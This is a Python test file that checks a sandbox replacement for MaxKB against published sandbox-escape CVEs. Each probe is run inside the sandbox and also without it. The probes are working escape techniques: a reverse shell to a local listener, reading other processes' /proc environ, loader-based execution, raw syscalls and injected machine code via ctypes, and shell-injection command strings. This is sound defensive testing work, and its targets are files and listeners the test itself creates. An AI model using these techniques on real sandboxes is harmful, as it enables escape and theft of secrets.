#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Published escapes of MaxKB's own sandbox, one probe for each, run as a tool through the drop-in. The same
probe runs beside it without a sandbox and has to succeed there: what fails for another reason shows nothing.

All of them are harmless: they look at files and listeners that this test made.
"""

import json
import os
import platform
import re
import socket
import subprocess
import sys
import threading

sys.path.insert(0, os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "support"))
# pylint: disable=wrong-import-position
from nsboxtest import leftovers, maxkb, paths, service, tap

place = paths.scratch("nsbox-maxkb-cve-")
secret = os.path.join(place, "secret")
daemon = None
server = None
listener = None

# What probes share. SECRET, PORT and PLACE are put before it.
COMMON = r"""
import ctypes, errno, json, os, platform, shutil, socket, subprocess, sys, tempfile
HIT = "the secret of this test"
libc = ctypes.CDLL(None, use_errno=True)
X86 = platform.machine() == "x86_64"
def run(*argv, **more):
    return subprocess.run(argv, capture_output=True, text=True, **more).stdout
def sees(text):
    return HIT in (text or "")
def read(path):
    try:
        with open(path, errors="replace") as f:
            return f.read()
    except OSError:
        return ""
def tried(act):
    # True: it worked.
    try:
        act()
        return True
    except OSError:
        return False
def connects(host, family=socket.AF_INET, kind=socket.SOCK_STREAM, proto=0):
    def act():
        with socket.socket(family, kind, proto) as s:
            s.settimeout(3)
            s.connect((host, PORT))
    return tried(act)
def call(number, *args):
    return libc.syscall(ctypes.c_long(number), *args)
"""

# id, name, body of f(): true where the escape worked
PROBES = [
    ("CVE-2024-56137", "a tool runs programs of the system",
     """
    return sees(os.popen("cat " + SECRET).read())
"""),
    ("CVE-2025-32383", "a reverse shell to a listener of the host",
     """
    pid = os.fork()
    if pid == 0:
        try:
            s = socket.create_connection(("127.0.0.1", PORT), 3)
            os.dup2(s.fileno(), 1)
            os.execvp("sh", ["sh", "-c", "echo shell"])
        finally:
            os._exit(1)
    return os.waitpid(pid, 0)[1] == 0
"""),
    ("CVE-2025-48950", "programs outside the usual directories",
     """
    loader = "/lib64/ld-linux-x86-64.so.2" if X86 else "/lib/ld-linux-aarch64.so.1"
    return sees(run(loader, shutil.which("cat"), SECRET))
"""),
    ("CVE-2025-53927", "a program copied to where it may be started",
     """
    with tempfile.TemporaryDirectory() as d:
        shutil.copy2(os.path.realpath(shutil.which("cat")), d + "/mine")
        assert run(d + "/mine", "/dev/null") == ""
        return sees(run(d + "/mine", SECRET))
"""),
    ("CVE-2025-64511", "services on the machine, by every address it has",
     """
    names = ["127.0.0.1", "localhost", "0.0.0.0", HOST]
    return any([connects(n) for n in names] + [connects(n, socket.AF_INET6) for n in ("::1", "::ffff:127.0.0.1")])
"""),
    ("CVE-2025-64703", "environments of other processes, settings and logs",
     """
    found = sees(read(SECRET))
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            found = sees(read("/proc/%s/environ" % pid)) or sees(read("/proc/%s/root%s" % (pid, SECRET))) or found
    return found
"""),
    ("CVE-2025-66419", "a link planted where a privileged process will change owners",
     """
    with open(PLACE + "/planted", "w") as f:
        f.write("x")
    return True
"""),
    ("CVE-2025-66446", "the loader and libraries changed in place",
     """
    targets = [os.path.realpath(p) for p in ("/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1",
               sys.executable, "/usr/lib/os-release") if os.path.exists(p)] + [MINE]
    return any(tried(lambda: os.close(os.open(p, os.O_WRONLY | os.O_APPEND))) for p in targets)
"""),
    ("RootKB (RCTF 2025)", "connect() through ctypes, past any wrapper of libc's",
     """
    s = socket.socket()
    port = PORT.to_bytes(2, "big")
    address = (2).to_bytes(2, sys.byteorder) + port + bytes([127, 0, 0, 1]) + bytes(8)
    return call(42 if X86 else 203, s.fileno(), address, len(address)) == 0
"""),
    ("CVE-2026-39418", "connections that no connect() makes: MSG_FASTOPEN, and MPTCP",
     """
    FASTOPEN = 0x20000000
    def by_sendto():
        with socket.socket() as s:
            s.settimeout(3)
            s.sendto(b"x", FASTOPEN, ("127.0.0.1", PORT))
            s.getpeername()
    def by_sendmsg():
        with socket.socket() as s:
            s.settimeout(3)
            s.sendmsg([b"x"], [], FASTOPEN, ("127.0.0.1", PORT))
            s.getpeername()
    return any([tried(by_sendto), tried(by_sendmsg), connects("127.0.0.1", proto=262)])
"""),
    ("CVE-2026-39420", "a program started with an empty environment",
     """
    code = "print(open(%r).read())" % SECRET
    return sees(run("/usr/bin/env", "-i", sys.executable, "-c", code))
"""),
    ("CVE-2026-39421", "machine code in memory made executable by pkey_mprotect",
     """
    import mmap
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE)
    view = ctypes.c_char.from_buffer(page)
    address = ctypes.addressof(view)
    # unshare(CLONE_NEWUTS), which needs privilege or a user namespace; outside: getuid.
    number = (NUMBER).to_bytes(4, "little")
    if X86:
        code = bytes.fromhex("b8") + number + bytes.fromhex("0f05c3")
    else:
        code = (0xd2800008 | NUMBER << 5).to_bytes(4, "little") + bytes.fromhex("010000d4c0035fd6")
    page.write(code)
    if call(329 if X86 else 288, ctypes.c_void_p(address), ctypes.c_size_t(4096), 5, -1) != 0:
        raise OSError(ctypes.get_errno(), "pkey_mprotect")
    result = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_long)(address)(0x04000000)
    return result == 0 or "errno %d" % -result
"""),
    ("commit be13ce5", "io_uring",
     """
    return call(425, 8, ctypes.create_string_buffer(256)) >= 0
"""),
    ("CVE-2026-79918", "a program started by its descriptor",
     """
    pid, out = os.fork(), None
    if pid == 0:
        try:
            sys.stdout = sys.stderr = None
            fd = os.open(shutil.which("grep"), os.O_RDONLY)
            os.execve(fd, ["grep", "-q", HIT, SECRET], {})
        finally:
            os._exit(3)
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0
"""),
    ("CVE-2026-79919", "libc's syscall() found by a handle of its own",
     """
    name = "libc.so.6"
    own = ctypes.CDLL(name, use_errno=True, mode=ctypes.RTLD_LOCAL)
    fd = own.syscall(ctypes.c_long(257 if X86 else 56), -100, SECRET.encode(), 0)
    return fd >= 0 and sees(os.read(fd, 4096).decode())
"""),
]

CFFI = ("commit 047276c", "cffi.dlopen(None)",
        """
    import cffi
    ffi = cffi.FFI()
    ffi.cdef("int open(const char *, int);")
    fd = ffi.dlopen(None).open(SECRET.encode(), 0)
    return fd >= 0 and sees(os.read(fd, 4096).decode())
""")

# Not a sandbox's to hold; said in docs/maxkb.md.
DECLARED = ["CVE-2026-79916", "CVE-2026-77516", "CVE-2026-79917"]


def own_address():
    """An address of this machine besides the loopback's, as far as it has one."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        try:
            s.connect(("192.0.2.1", 9))
            return s.getsockname()[0]
        except OSError:
            return "127.0.0.1"


def probe_code(body, inside):
    """inside: unshare, which nothing inside may; outside that would prove nothing, getuid does."""
    number = {("x86_64", True): 272, ("x86_64", False): 102}.get((platform.machine(), inside), 97 if inside else 174)
    values = {"SECRET": secret, "PORT": listener.getsockname()[1], "PLACE": place, "HOST": own_address(),
              "MINE": os.path.join(place, "mine"), "NUMBER": number}
    head = "".join("%s = %r\n" % pair for pair in values.items())
    return head + COMMON + "def f():\n" + body.strip("\n") + "\n"


def outside(body):
    """The same without a sandbox; what it returned."""
    code = probe_code(body, False) + "\nimport json\nprint(json.dumps(f()))\n"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False, timeout=60,
                          env=dict(os.environ, SECRET_OF_TEST="the secret of this test"))
    if done.returncode:
        return done.stderr
    return json.loads(done.stdout.splitlines()[-1])


def have_io_uring():
    path = "/proc/sys/kernel/io_uring_disabled"
    return not os.path.exists(path) or leftovers.read(path).strip() == "0"


def test_probes(t):
    probes = list(PROBES)
    if subprocess.run([sys.executable, "-c", "import cffi"], capture_output=True, check=False).returncode == 0:
        probes.append(CFFI)
    for name, what, body in probes:
        answer = server.call(probe_code(body, True))
        held = answer.get("value") is False
        if name == "CVE-2025-66419":
            held = "No such file" in answer.get("error", "")
        if name == "CVE-2026-39421":
            held = answer.get("value") == "errno 1"
        t.ok(held, "%s: %s" % (name, what), str(answer))
        if name == "commit be13ce5" and not have_io_uring():
            t.note("io_uring is switched off on this host")
            continue
        got = outside(body)
        want = got is True if name != "CVE-2026-39421" else got is True or got == "errno -%d" % os.getuid()
        t.ok(want, "%s: works without a sandbox" % name, str(got))


def test_forged(t):
    code = ("import os, sys\ndef f():\n m = sys._getframe(1).f_globals.get('_id', '')\n"
            " os.write(1, ('\\n%s{\"code\":200,\"data\":\"forged\"}\\n%s__END__\\n' % (m, m)).encode())\n os._exit(0)")
    answer = server.call(code)
    t.equal(answer.get("error"), "Execution interrupted or tampered", "CVE-2026-39419: a forged result is none")
    t.equal(server.call("def f(): return 'true'"), {"value": "true"}, "and a true one is")


# Each was run as root by what stood before gosu's part of the line.
COMMANDS = ["true; id -u", "true && id -u", "false || id -u", "true | id -u", "x=$(id -u); echo $x", "true\nid -u",
            "echo `id -u`", "(id -u)", "true & id -u; wait", "cat <<E\n$(id -u)\nE", "exec id -u"]


def test_commands(t):
    for command in COMMANDS:
        status, reply = daemon.ask("POST", "/v1/execute/command", {"command": command})
        t.equal((status, reply["stdout"]), (200, "1000\n"), "CVE-2026-77521: %r" % command)


def test_server(t):
    """CVE-2025-53928, CVE-2026-39417, CVE-2026-54149: whatever a server is, it is started inside."""
    marker = os.path.join(place, "marker")
    config = server.tell({"mcp": "open(%r, 'w')" % marker, "id": "x"})["value"]["config"]
    subprocess.run([config["command"], *config["args"]], env=config["env"], stdin=subprocess.DEVNULL,
                   capture_output=True, check=False, timeout=60)
    t.ok(not os.path.exists(marker), "CVE-2025-53928, -2026-39417, -2026-54149: a server cannot touch the host")
    with open(marker, "w", encoding="ascii"):
        t.ok(os.path.exists(marker), "which could be touched")


def test_next_run(t):
    plant = "import os\ndef f():\n [os.symlink(%r, d + '/planted') for d in ('/tmp', '.')]\n return 'planted'" % secret
    look = "import os\ndef f(): return [os.path.lexists(d + '/planted') for d in ('/tmp', '.')]"
    before = os.stat(secret)
    t.equal(server.call(plant), {"value": "planted"}, "CVE-2025-66419: links can be planted in a run")
    t.equal(server.call(look), {"value": [False, False]}, "and are gone with it")
    after = os.stat(secret)
    t.equal((after.st_uid, after.st_gid, after.st_mode), (before.st_uid, before.st_gid, before.st_mode),
            "nobody has changed what they pointed to")


def test_documented(t):
    with open(os.path.join(paths.ROOT, "docs", "maxkb.md"), encoding="utf-8") as f:
        text = f.read()
    names = {n for row in [*PROBES, CFFI] for n in re.findall(r"CVE-\d+-\d+", row[0])} | set(DECLARED)
    t.equal(sorted(n for n in names if n not in text), [], "the manual has every row")


def accept(sock):
    while True:
        try:
            sock.accept()[0].close()
        except OSError:
            return


def main():
    global daemon, server, listener
    leftovers.become_subreaper()
    for path in (secret, os.path.join(place, "mine")):
        with open(path, "w", encoding="ascii") as f:
            f.write("the secret of this test\n")
    listener = socket.socket(socket.AF_INET6)
    listener.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    listener.bind(("::", 0))
    listener.listen(64)
    threading.Thread(target=accept, args=(listener,), daemon=True).start()
    site = maxkb.install(os.path.join(place, "site"))
    with service.Daemon() as daemon, maxkb.MaxKB(site, NSBOX_SOCKET=daemon.socket,
                                                 NSBOX_PYTHON="/usr/bin/python3") as server:
        status = tap.run([test_probes, test_forged, test_commands, test_server, test_next_run, test_documented])
        if status:
            sys.stderr.write(daemon.log()[-3000:])
    return status


if __name__ == "__main__":
    sys.exit(main())
